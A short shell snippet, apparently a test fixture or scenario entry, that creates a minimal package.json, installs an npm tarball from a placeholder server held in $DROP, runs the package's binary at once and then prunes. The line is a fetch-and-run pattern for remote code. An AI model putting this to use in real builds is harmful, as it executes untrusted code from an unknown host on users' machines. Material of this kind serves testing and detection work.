# build: npm installs a package from a server, and its command is run
# needs: node npm
echo '{"name": "app", "version": "1.0.0"}' > package.json
npm install --no-audit --no-fund "http://$DROP/tool-1.0.0.tgz" && ./node_modules/.bin/tool && npm prune
